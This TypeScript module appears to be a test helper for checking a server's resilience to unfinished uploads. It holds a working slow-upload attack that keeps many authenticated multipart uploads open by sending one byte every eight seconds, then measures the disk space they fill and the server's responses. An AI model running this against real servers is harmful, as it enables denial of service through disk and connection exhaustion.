import { readdirSync, statSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';

const BOUNDARY = 'unfinished';
/** Milliseconds between two bytes: short enough that the connection does not count as idle. */
export const DRIP = 8000;
/** Content length of every request, within the server's default limit. */
const PROMISED = 50_000_000;

export interface UploadAttack {
  /** Origin of the server, such as `http://127.0.0.1:3000`. */
  origin: string;
  /** Token of a signed-in enterprise. */
  token: string;
  /** The server's folder for incoming files. */
  incoming: string;
  connections: number;
  /** Bytes that each connection sends at once, before it only drips. */
  bytesEach: number;
  /** Maximum duration. */
  seconds: number;
  /** Returns whether the attack may end early; called five times a second. */
  isEnough?(progress: Pick<UploadAttackResult, 'maxBytes' | 'answers'>): boolean;
}

export interface UploadAttackResult {
  /** Bytes of unfinished uploads on disk: the maximum, and at the end. */
  maxBytes: number;
  atEnd: number;
  /** Number of responses by HTTP status; connections without a response are not counted. */
  answers: Record<string, number>;
  /** Connections that the server still keeps open at the end. */
  open: number;
}

function bytesIn(folder: string): number {
  const sizeOf = (name: string) => statSync(join(folder, name), { throwIfNoEntry: false })?.size ?? 0;
  return readdirSync(folder).reduce((sum, name) => sum + sizeOf(name), 0);
}

function startUpload({ origin, token, bytesEach }: UploadAttack): Socket {
  const { hostname, port, host } = new URL(origin);
  const socket = connect(Number(port), hostname);
  // A reset counts as a response.
  socket.on('error', () => {});
  socket.write(
    [
      'POST /components/sysAttMain/upload HTTP/1.1',
      `host: ${host}`,
      `authorization: Bearer ${token}`,
      `content-type: multipart/form-data; boundary=${BOUNDARY}`,
      `content-length: ${PROMISED}`,
      '',
      `--${BOUNDARY}`,
      'content-disposition: form-data; name="file"; filename="a.zip"',
      '',
      'x'.repeat(bytesEach),
    ].join('\r\n'),
  );
  return socket;
}

/**
 * Starts uploads of one account that never end, and returns how much disk space they occupied: each sends some bytes and then one
 * every eight seconds. It stops by itself. Only for your own server on this machine.
 */
export async function attackUploads(attack: UploadAttack): Promise<UploadAttackResult> {
  const answers: Record<string, number> = {};
  const sockets = Array.from({ length: attack.connections }, () => startUpload(attack));
  for (const socket of sockets)
    socket.once('data', (chunk) => {
      const status = /^HTTP\/1\.1 (\d+)/.exec(chunk.toString('latin1'))?.[1];
      if (status) answers[status] = (answers[status] ?? 0) + 1;
    });
  const alive = () => sockets.filter((socket) => !socket.closed && !socket.readableEnded);
  const drip = setInterval(() => {
    for (const socket of alive()) socket.write('x');
  }, DRIP);
  let maxBytes = 0;
  const end = performance.now() + attack.seconds * 1000;
  while (performance.now() < end && !attack.isEnough?.({ maxBytes, answers })) {
    await wait(200);
    maxBytes = Math.max(maxBytes, bytesIn(attack.incoming));
  }
  clearInterval(drip);
  const result = { maxBytes, atEnd: bytesIn(attack.incoming), answers, open: alive().length };
  for (const socket of sockets) socket.destroy();
  return result;
}
